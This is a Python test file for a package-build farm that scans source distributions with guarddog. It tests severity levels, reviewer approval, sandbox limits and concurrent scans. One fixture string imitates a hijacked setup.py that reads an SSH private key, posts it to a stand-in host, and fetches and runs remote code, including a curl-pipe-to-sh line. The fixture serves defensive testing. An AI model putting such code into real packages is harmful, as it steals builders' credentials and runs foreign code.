"""The scan of an sdist before its build: guarddog's findings, run in the sandbox, and the levels
that hold a release for review."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from tests.sdists import CACHE, setuptools_sdist
from wheelwright.common.files import sha256_of
from wheelwright.farm.settings import Farm
from wheelwright.sources import scan
from wheelwright.sources.scan import approve, run_guarddog, scanned

# What a hijacked release's setup.py does: reads the builder's keys, sends them away, fetches and
# runs more code. Guarded, so that a build of it (approved by a reviewer) still completes.
MALICIOUS_SETUP = """\
    import os, subprocess, urllib.request
    from setuptools import setup
    try:
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        urllib.request.urlopen("http://collector.invalid/k", data=key.encode())
        exec(urllib.request.urlopen("http://collector.invalid/stage2.py").read())
        subprocess.run("curl http://collector.invalid/s.sh | sh", shell=True)
    except Exception:
        pass
    setup()
    """


def malicious_sdist(dest, name: str, version: str):
    return setuptools_sdist(dest, name, version, setup_py=MALICIOUS_SETUP)


def test_a_malicious_setup_py_is_found_at_the_high_level_and_an_honest_sdist_is_clean(tmp_path):
    evil, honest = (
        malicious_sdist(tmp_path, "evil", "1.0"),
        setuptools_sdist(tmp_path, "honest", "1.0"),
    )
    farm = Farm(root=tmp_path / "farm")
    held = scanned(farm, evil, sha256_of(evil))
    severe = held.severe("high")
    assert any(f.startswith("threat-filesystem-read: evil-1.0/setup.py:") for f in severe), severe
    assert any(f.startswith("threat-process-download-exec: evil-1.0/setup.py:") for f in severe), (
        severe
    )
    assert scanned(farm, honest, sha256_of(honest)).severe("low") == []
    # Kept by sha256: a reviewer's approval of those bytes sticks.
    approve(farm, sha256_of(evil), "ann")
    assert scanned(farm, evil, sha256_of(evil)).approved_by == "ann"


def test_the_scan_runs_under_the_builds_limits(tmp_path):
    """guarddog reads a stranger's archive whole: held to the farm's build_limits as a build is
    (here a memory limit no Python with guarddog fits in), its failure is no verdict, and nothing
    is kept, so the next build scans again."""
    from wheelwright.common.sandbox import Limits

    farm = Farm(root=tmp_path / "farm", build_limits={"memory_mb": 24, "files": 100})
    honest = setuptools_sdist(tmp_path, "honest", "1.0")
    made = scanned(farm, honest, sha256_of(honest))
    assert made.error and "was stopped: it hit the" in made.error, made.error
    assert not (farm.root / "scans").exists() or not list((farm.root / "scans").iterdir())
    assert run_guarddog(honest, Limits()) == {}


def test_honest_trees_with_threat_like_code_are_medium_not_held_by_default(tmp_path):
    # urllib3's and flask's code trips guarddog's threat rules, not in what runs at build time.
    for sdist in ("urllib3-2.3.0.tar.gz", "flask-3.1.0.tar.gz", "setuptools-80.9.0.tar.gz"):
        scan = scanned(Farm(root=tmp_path / sdist), CACHE / sdist, sha256_of(CACHE / sdist))
        assert scan.error is None and scan.severe("medium") and not scan.severe("high"), (
            sdist,
            scan.findings,
        )


def test_builders_scanning_one_sdist_at_once_all_get_its_scan(tmp_path):
    # The matrix's builders download and scan the same release at the same moment (found in CI).
    sdist = setuptools_sdist(tmp_path, "popular", "1.0")
    farm = Farm(root=tmp_path / "farm")
    with ThreadPoolExecutor(4) as pool:
        scans = list(pool.map(lambda _: scanned(farm, sdist, sha256_of(sdist)), range(4)))
    assert all(s.error is None and s.findings == scans[0].findings for s in scans)
    assert [p.name for p in (farm.root / "scans").iterdir()] == [f"{sha256_of(sdist)}.json"]


def counting_guarddog(monkeypatch) -> list[Path]:
    """guarddog, as the scan calls it, taking a moment and finding nothing; each run's sdist is
    noted in the list returned."""
    runs: list[Path] = []

    def run(sdist: Path, limits=None) -> dict[str, list[str]]:
        runs.append(sdist)
        time.sleep(0.5)
        return {}

    monkeypatch.setattr(scan, "run_guarddog", run)
    return runs


def test_an_sdist_asked_for_by_many_builds_at_once_is_scanned_once(tmp_path, monkeypatch):
    runs = counting_guarddog(monkeypatch)
    sdist = setuptools_sdist(tmp_path, "popular", "1.0")
    farm = Farm(root=tmp_path / "farm")
    with ThreadPoolExecutor(4) as pool:
        scans = list(pool.map(lambda _: scanned(farm, sdist, sha256_of(sdist)), range(4)))
    assert all(s.error is None and s.findings == {} for s in scans)
    assert runs == [sdist]


def test_a_bootstraps_scans_ahead_are_the_ones_its_builds_publish_with(tmp_path, monkeypatch):
    runs = counting_guarddog(monkeypatch)
    first, second = (setuptools_sdist(tmp_path, name, "1.0") for name in ("first", "second"))
    farm = Farm(root=tmp_path / "farm")
    with ThreadPoolExecutor(2) as pool:
        # the bootstrap's scans ahead: one after the other, in build order (steps/bootstrap.py)
        ahead = pool.submit(lambda: [scanned(farm, p, sha256_of(p)) for p in (first, second)])
        # the first build asks while its scan ahead runs, the second once it is made
        assert scanned(farm, first, sha256_of(first)).error is None
        ahead.result()
        assert scanned(farm, second, sha256_of(second)).error is None
    assert runs == [first, second]
